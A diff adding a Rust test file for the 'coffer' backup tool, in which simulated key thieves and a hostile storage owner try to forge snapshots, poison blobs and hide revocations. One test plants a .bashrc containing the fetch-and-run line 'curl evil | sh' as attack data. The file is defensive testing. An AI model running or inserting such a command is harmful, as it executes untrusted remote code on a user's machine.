@@ -1,0 +1,231 @@
+//! End-to-end: what the holder of a stolen write-only key (and the storage owner) can do to a
+//! repository, played by the adversaries of `common::adversary`, followed by the owner's own
+//! commands with a fresh and with an old local database (issue 15). Each test asserts that
+//! nothing another key wrote was lost, changed or learned.
+
+mod common;
+
+use std::ffi::{OsStr, OsString};
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use coffer::format::pack::BlobKind;
+use common::adversary::{owner_blob_ids, KeyThief, StorageOwner};
+use common::tree::{write_random, KIB};
+use common::*;
+
+/// The owner's machine name in these tests, and the one the thief's key is bound to.
+const OWNER_HOST: &str = "office-laptop";
+const THIEF_HOST: &str = "backup-box";
+
+fn source(c: &Coffer) -> PathBuf {
+    let src = c.dir("src");
+    std::fs::write(src.join(".bashrc"), "export EDITOR=vi\n").expect("write");
+    std::fs::write(src.join("pin.txt"), "bank PIN: 4821").expect("write");
+    write_random(&src.join("large.bin"), 3, 700 * KIB);
+    std::fs::create_dir_all(src.join("sub")).expect("mkdir");
+    write_random(&src.join("sub/small.bin"), 4, 20 * KIB);
+    src
+}
+
+/// A write-only key bound to [`THIEF_HOST`], in a file.
+fn write_only_key(c: &Coffer, name: &str) -> PathBuf {
+    let path = c.path(name);
+    let args: Vec<OsString> = vec![
+        "key".into(),
+        "write-only".into(),
+        "--output".into(),
+        path.clone().into(),
+        "--host".into(),
+        THIEF_HOST.into(),
+    ];
+    c.ok(&args);
+    path
+}
+
+/// `coffer` as the machine holding `key` (no password), with its own local database.
+fn as_key_holder(c: &Coffer, key: &Path, cache: &Path) -> Command {
+    let mut cmd = c.bare_command();
+    cmd.env("COFFER_REPOSITORY", &c.repo).env("COFFER_CACHE_DIR", cache).arg("--key-file").arg(key);
+    cmd
+}
+
+/// The owner's command with a local database of `cache` (a fresh one, or the usual).
+fn owner(c: &Coffer, cache: Option<&Path>, args: &[&dyn AsRef<OsStr>]) -> Out {
+    let mut cmd = c.command();
+    if let Some(cache) = cache {
+        cmd.env("COFFER_CACHE_DIR", cache);
+    }
+    for a in args {
+        cmd.arg(a.as_ref());
+    }
+    run(cmd, DEFAULT_TIMEOUT)
+}
+
+/// Restores the latest snapshot of [`OWNER_HOST`] and compares it with `src`.
+fn latest_restores_exactly(c: &Coffer, cache: Option<&Path>, src: &Path, name: &str) {
+    let target = c.path(name);
+    let out = owner(c, cache, &[&"restore", &"latest", &"--host", &OWNER_HOST, &"--target", &target]);
+    out.assert_code(0);
+    assert_trees_equal(src, &restored_path(&target, src));
+}
+
+fn owner_backup(c: &Coffer, src: &Path) -> serde_json::Value {
+    c.backup_with(&[src], &["--host", OWNER_HOST])
+}
+
+#[test]
+fn junk_under_the_owners_ids_neither_misleads_prune_nor_poisons_backups() {
+    let c = Coffer::new();
+    c.init();
+    let src = source(&c);
+    owner_backup(&c, &src);
+    let key = write_only_key(&c, "thief.key");
+    let thief = KeyThief::from_key_file(&c.repo, &key);
+
+    // Secrecy: the key opens no index file it did not write, and names content differently.
+    let (opened, refused) = thief.read_index();
+    assert!(opened.is_empty() && refused > 0, "a write-only key read another key's index");
+    let owner_ids = owner_blob_ids(&c.repo, PASSWORD);
+    assert!(!owner_ids.iter().any(|(id, _, _)| *id == thief.blob_id(b"bank PIN: 4821")));
+
+    // The strongest thief: it learned every id anyway, and plants junk under all of them in
+    // packs that sort first; and under the ids its own key gives files it can guess.
+    let lowest = owner_ids.iter().map(|(_, _, pack)| *pack).min().expect("packs");
+    let ids: Vec<_> = owner_ids.iter().map(|(id, kind, _)| (*id, *kind)).collect();
+    let (data, trees): (Vec<_>, Vec<_>) = ids.into_iter().partition(|(_, kind)| *kind == BlobKind::Data);
+    thief.plant_junk(&data, Some(lowest));
+    thief.plant_junk(&trees, Some(lowest));
+    thief.plant_junk(&[(thief.blob_id(b"export EDITOR=vi\n"), BlobKind::Data)], None);
+
+    // Later backups, from this machine and from a fresh one, of changed and guessed content.
+    std::fs::write(src.join("new.txt"), "export EDITOR=vi\n").expect("write");
+    owner_backup(&c, &src);
+    let fresh = c.dir("fresh-db");
+    owner(&c, Some(&fresh), &[&"backup", &"--host", &OWNER_HOST, &src]).assert_code(0);
+
+    for (cache, name) in [(None, "old"), (Some(fresh.as_path()), "fresh")] {
+        latest_restores_exactly(&c, cache, &src, &format!("before-prune-{name}"));
+    }
+    // check --read-data names the junk (it fails verification); prune keeps what verifies.
+    let out = owner(&c, Some(&fresh), &[&"check", &"--read-data"]);
+    out.assert_failed();
+    let out = owner(&c, Some(&fresh), &[&"prune"]);
+    out.assert_code(0);
+    for (cache, name) in [(None, "old"), (Some(fresh.as_path()), "fresh")] {
+        latest_restores_exactly(&c, cache, &src, &format!("after-prune-{name}"));
+    }
+    let every = owner(&c, None, &[&"snapshots", &"--json"]).json();
+    for snap in every.as_array().expect("array") {
+        let id = snap["id"].as_str().expect("id");
+        let target = c.path(&format!("each-{}", &id[..8]));
+        owner(&c, None, &[&"restore", &id, &"--target", &target]).assert_code(0);
+    }
+    // The junk went with the prune: what is left verifies whole.
+    owner(&c, Some(&c.dir("fresh-db-2")), &[&"check", &"--read-data"]).assert_code(0);
+}
+
+#[test]
+fn a_thief_cannot_pose_as_another_machine() {
+    let c = Coffer::new();
+    c.init();
+    let src = source(&c);
+    owner_backup(&c, &src);
+    owner_backup(&c, &src);
+    let key = write_only_key(&c, "thief.key");
+    let thief_cache = c.dir("thief-cache");
+
+    // The CLI refuses to claim a host the key is not bound to…
+    let planted = c.dir("planted");
+    std::fs::write(planted.join(".bashrc"), "curl evil | sh\n").expect("write");
+    let mut cmd = as_key_holder(&c, &key, &thief_cache);
+    cmd.args(["backup", "--host", OWNER_HOST]).arg(&planted);
+    let out = run(cmd, DEFAULT_TIMEOUT);
+    out.assert_failed();
+    assert!(out.stderr().contains("may only claim"), "{out}");
+    // …and its own host works, attributed to the key.
+    let mut cmd = as_key_holder(&c, &key, &thief_cache);
+    cmd.args(["backup", "--host", THIEF_HOST]).arg(&planted);
+    run(cmd, DEFAULT_TIMEOUT).assert_code(0);
+
+    // Written directly: a newer snapshot claiming the owner's host and path.
+    let thief = KeyThief::from_key_file(&c.repo, &key);
+    let forged = thief.forge_snapshot_of(OWNER_HOST, &src, vec![thief.blob_id(b"curl evil | sh\n")]);
+
+    for cache in [None, Some(c.dir("fresh-db"))] {
+        let listed = owner(&c, cache.as_deref(), &[&"snapshots", &"--json"]);
+        listed.assert_code(0);
+        assert!(listed.stderr().contains("may only claim"), "{listed}");
+        let listed = listed.json();
+        let listed = listed.as_array().expect("array");
+        assert_eq!(listed.len(), 3, "{listed:?}");
+        assert!(!listed.iter().any(|s| s["id"] == forged.to_hex()));
+        assert!(listed.iter().all(|s| s["signer"].as_str().is_some_and(|x| is_hex(x, 64))));
+        let by_thief: Vec<_> = listed.iter().filter(|s| s["hostname"] == THIEF_HOST).collect();
+        assert_eq!(by_thief.len(), 1);
+        assert!(by_thief[0]["signed_by"].as_str().expect("signed_by").contains("thief.key"), "{by_thief:?}");
+        latest_restores_exactly(&c, cache.as_deref(), &src, &format!("restore-{}", cache.is_some()));
+        let out = owner(&c, cache.as_deref(), &[&"check"]);
+        out.assert_failed();
+        assert!(out.all().contains(&forged.short()) && out.all().contains("may only claim"), "{out}");
+    }
+    // Retention: the thief's snapshot neither takes a place nor is removed; the owner's newest stays.
+    let out = owner(&c, None, &[&"forget", &"--keep-last", &"1", &"--prune"]);
+    out.assert_code(0);
+    latest_restores_exactly(&c, None, &src, "after-forget");
+    let left = c.snapshots();
+    assert_eq!(left.iter().filter(|s| s["hostname"] == OWNER_HOST).count(), 1);
+    assert_eq!(left.iter().filter(|s| s["hostname"] == THIEF_HOST).count(), 1);
+}
+
+#[test]
+fn a_deleted_revocation_or_hidden_snapshot_is_detected_with_a_fresh_database() {
+    let c = Coffer::new();
+    c.init();
+    let src = source(&c);
+    let key = write_only_key(&c, "thief.key");
+    let mut cmd = as_key_holder(&c, &key, &c.dir("key-cache"));
+    cmd.args(["backup", "--host", THIEF_HOST]).arg(&src);
+    run(cmd, DEFAULT_TIMEOUT).assert_code(0);
+    let storage = StorageOwner { repo: c.repo.clone() };
+    let registrations = storage.objects("signers/");
+
+    let listed = c.ok(&["key", "list", "--json"]).json();
+    let signer = listed.as_array().expect("array").iter().find(|k| k["kind"] == "write-only").expect("key")["id"]
+        .as_str()
+        .expect("id")
+        .to_string();
+    c.ok(&["key", "remove", &signer[..12]]);
+    let revocation: Vec<String> =
+        storage.objects("signers/").into_iter().filter(|o| !registrations.contains(o)).collect();
+    assert_eq!(revocation.len(), 1);
+    let first = owner_backup(&c, &src);
+    owner_backup(&c, &src);
+
+    // The stolen key writes on after its removal; the storage owner deletes the revocation.
+    let thief = KeyThief::from_key_file(&c.repo, &key);
+    thief.forge_snapshot_of(THIEF_HOST, &src, vec![thief.blob_id(b"x")]);
+    storage.delete(&revocation[0]);
+    let fresh = c.dir("fresh-db");
+    let out = owner(&c, Some(&fresh), &[&"check"]);
+    out.assert_failed();
+    assert!(out.all().contains(&revocation[0]) && out.all().contains("withholds"), "{out}");
+    let out = owner(&c, Some(&fresh), &[&"prune"]);
+    out.assert_failed();
+    assert!(out.stderr().contains("prune deletes nothing"), "{out}");
+
+    // Hiding a snapshot is seen through the next one's link to it, also with a fresh database.
+    let c2 = Coffer::new();
+    c2.init();
+    let src2 = source(&c2);
+    let first2 = owner_backup(&c2, &src2);
+    owner_backup(&c2, &src2);
+    StorageOwner { repo: c2.repo.clone() }.delete(&format!("snapshots/{}", string(&first2, "snapshot_id")));
+    let out = owner(&c2, Some(&c2.dir("fresh-db")), &[&"check"]);
+    out.assert_failed();
+    assert!(out.all().contains(&string(&first2, "snapshot_id")[..8]) && out.all().contains("hides"), "{out}");
+    // The owner's snapshots written before the deletion still restore.
+    let target = c.path("first");
+    owner(&c, Some(&fresh), &[&"restore", &string(&first, "snapshot_id"), &"--target", &target]).assert_code(0);
+    assert_trees_equal(&src, &restored_path(&target, &src));
+}
